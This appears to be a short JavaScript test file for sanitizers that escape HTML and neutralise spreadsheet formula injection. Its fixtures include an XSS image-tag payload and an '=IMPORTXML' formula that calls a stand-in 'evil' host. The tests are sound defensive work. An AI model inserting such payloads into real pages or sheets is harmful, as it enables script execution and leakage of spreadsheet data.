import { asSheetText, escapeHtml, looksLikeFormula } from '../src/core/safety';

describe('untrusted text', () => {
  test('HTML is escaped, quotes included', () => {
    expect(escapeHtml('<img src=x onerror="alert(1)">&\'')).toBe('&lt;img src=x onerror=&quot;alert(1)&quot;&gt;&amp;&#39;');
  });
  test('a cell starting with = + - @ is formula-like and written with an apostrophe', () => {
    for (const s of ['=IMPORTXML("http://evil","//a")', '+1', '-3', '@x']) {
      expect(looksLikeFormula(s)).toBe(true);
      expect(asSheetText(s)).toBe(`'${s}`);
    }
    expect(asSheetText('Huyện Đăk Đoa')).toBe('Huyện Đăk Đoa');
  });
});
